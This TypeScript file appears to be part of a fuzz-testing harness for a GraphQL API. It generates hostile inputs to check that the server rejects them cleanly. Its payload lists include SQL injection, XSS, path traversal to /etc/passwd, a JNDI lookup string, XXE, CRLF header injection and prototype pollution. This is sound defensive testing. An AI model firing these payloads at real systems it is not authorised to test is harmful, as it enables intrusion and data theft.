import { FuzzRandom } from './fuzz-random';
import { LeafContext, OBJECT_KINDS, validId, validJson } from './fuzz-values';

/**
 * What an attacker sends instead of a plausible value: boundaries, injections, odd unicode, deep or huge JSON,
 * ids of the wrong kind; and values of the wrong type or out of range, which GraphQL itself must refuse (400).
 * All but those last reach the resolvers, which is where a 500 would come from.
 */

/** A number written into the request body as is (outside what JSON.stringify produces: 1e999, 2^53 + 1). */
export class RawNumber {
  constructor(readonly text: string) {}
}

const LONG = 'a'.repeat(10_000);
export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '   \t\n  ',
  LONG,
  'ﷺ'.repeat(3_000),
  '👩🏽‍🚀🏳️‍🌈'.repeat(500),
  'مرحبا بالعالم \u202Eevil.exe\u202C',
  '\u200B\u200C\u200D\uFEFF',
  'Z̷̢̛͎̞̈́a̸̧͖̋l̵̨̛g̴̢̛o̷͍͝',
  'a\u0000b',
  '\u0000',
  '\uD800',
  '\uDFFFx\uD83D',
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  '" OR ""="',
  '1; SELECT sqlite_version(); --',
  "admin'--",
  '%',
  '_%_',
  '\\',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  'javascript:alert(1)',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '/files/seed/../../package.json',
  '%2e%2e%2f%2e%2e%2fpackage.json',
  'file:///etc/passwd',
  '${jndi:ldap://x/a}',
  '{{7*7}}',
  '%s%s%s%n',
  '=HYPERLINK("http://x")',
  '@SUM(1+1)',
  'line\r\nSet-Cookie: pwned=1',
  '__proto__',
  'constructor',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  '0x7fffffff',
  '9'.repeat(400),
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
];

export const HOSTILE_IDS: readonly string[] = [
  '',
  '0',
  '-1',
  '1',
  'null',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  "' OR '1'='1",
  '../../etc/passwd',
  'a'.repeat(10_000),
  '\u0000',
  '%',
  '*',
  '😀',
];

const INTS = [0, 1, -1, 2, 7, 100, -100, 2_147_483_647, -2_147_483_648, 1_000_000, -1_000_000];
const FLOATS = [0, -0, 1, -1, 0.5, 1e-300, 5e-324, 1e308, -1e308, 1.7976931348623157e308, 123456.789, -0.000001];
const DATES = [
  '2030-01-01T00:00:00.000Z',
  '1970-01-01T00:00:00.000Z',
  '2000-02-29T12:00:00Z',
  '9999-12-31T23:59:59.999Z',
  '0001-01-01T00:00:00Z',
  '2030-02-30T00:00:00Z',
  'kemarin',
  '',
  '2030-01-01',
  '1e12',
  '2030-01-01T00:00:00+14:00',
];

/** Out of range for GraphQL Int and Float (the schema must refuse them as 400, not crash on them). */
export const OUT_OF_RANGE_INTS = [
  new RawNumber('2147483648'),
  new RawNumber('-2147483649'),
  new RawNumber('9007199254740993'),
  new RawNumber('1e20'),
  new RawNumber('1.5'),
  new RawNumber('1e999'),
];
export const OUT_OF_RANGE_FLOATS = [new RawNumber('1e999'), new RawNumber('-1e999')];

/** Values of another type than the scalar's (GraphQL coerces an Int to an ID, so that is not among them). */
export function wrongTypeValue(random: FuzzRandom, scalar: string, enumValues: readonly string[]): unknown {
  switch (scalar) {
    case 'String':
      return random.pick([12345, true, { a: 1 }, ['x'], 1.5]);
    case 'ID':
      return random.pick([true, 1.5, { id: 1 }, ['x']]);
    case 'Int':
      return random.pick(['12', true, 1.5, { n: 1 }, 'NaN']);
    case 'Float':
      return random.pick(['1.5', true, { n: 1 }, 'NaN', 'Infinity']);
    case 'Boolean':
      return random.pick(['true', 0, 1, { b: true }, 'yes']);
    default:
      // an enum
      return random.pick(['NOT_A_VALUE', 1, true, `x${enumValues[0] ?? ''}`]);
  }
}

export function hostileId(context: LeafContext): string {
  const { random, real } = context;
  const roll = random.int(0, 4);
  if (roll === 0) return random.uuid();
  if (roll === 1) {
    // a real id of another kind of object
    const kind = random.pick(OBJECT_KINDS.filter((candidate) => candidate !== 'user' || !context.sparesDemoUsers));
    return real.ids[kind].length ? random.pick(real.ids[kind]) : random.uuid();
  }
  if (roll === 2) {
    const id = validId(context);
    return random.pick([id.toUpperCase(), ` ${id}`, `${id}\u0000`, `${id}' OR '1'='1`, id.replace(/-/g, ''), `${id}/../x`]);
  }
  return random.pick(HOSTILE_IDS);
}

export function hostileInt(random: FuzzRandom): number {
  return random.pick(INTS);
}

export function hostileFloat(random: FuzzRandom): number {
  return random.pick(FLOATS);
}

export function dateValue(random: FuzzRandom, hostile: boolean): string {
  return hostile ? random.pick(DATES) : random.pick(DATES.slice(0, 3));
}

export function hostileString(random: FuzzRandom): string {
  return random.pick(HOSTILE_STRINGS);
}

/** Arbitrary JSON an attacker would send: deep nesting, huge arrays, prototype keys, hostile leaves. */
export function hostileJson(context: LeafContext): unknown {
  const { random } = context;
  switch (random.int(0, 7)) {
    case 0:
      return context.mayBeHuge() ? hugeJson(random) : withHostileLeaves(context, validJson(context));
    case 1:
      return JSON.parse('{"__proto__": {"isAdmin": true, "polluted": 1}, "constructor": {"prototype": {"polluted": 1}}, "choiceIds": ["a1"]}');
    case 2:
      return random.pick([null, 0, -1, 1e308, true, 'text', [], '', hostileString(random)]);
    default:
      return withHostileLeaves(context, validJson(context));
  }
}

/** Deeply nested or very long JSON (a few hundred KB at most). */
export function hugeJson(random: FuzzRandom): unknown {
  if (random.chance(0.5)) return Array.from({ length: random.pick([1_000, 10_000]) }, (_, index) => (index % 2 ? index : { choiceIds: ['a1'] }));
  const depth = random.pick([50, 500, 2_000]);
  let nested: unknown = { leaf: hostileString(random) };
  for (let level = 0; level < depth; level++) nested = random.chance(0.5) ? [nested] : { a: nested };
  return nested;
}

/** The same shape with some leaves swapped for hostile values (the plugin schemas see near-valid input). */
function withHostileLeaves(context: LeafContext, value: unknown): unknown {
  const { random } = context;
  if (Array.isArray(value)) return value.map((item) => withHostileLeaves(context, item));
  if (value && typeof value === 'object') {
    return Object.fromEntries(Object.entries(value).map(([key, item]) => [key, random.chance(0.4) ? hostileLeaf(context, item) : withHostileLeaves(context, item)]));
  }
  return random.chance(0.5) ? hostileLeaf(context, value) : value;
}

function hostileLeaf(context: LeafContext, original: unknown): unknown {
  const { random } = context;
  if (typeof original === 'number') return random.pick([...FLOATS, -1, 2_147_483_648, Number.MAX_SAFE_INTEGER]);
  if (typeof original === 'string') return hostileString(random);
  const leaf = random.pick([null, 'text', -1, [], {}, 'many']);
  return leaf === 'many' ? (context.mayBeHuge() ? Array.from({ length: 2_000 }, () => 'a1') : ['a1', 'a1']) : leaf;
}
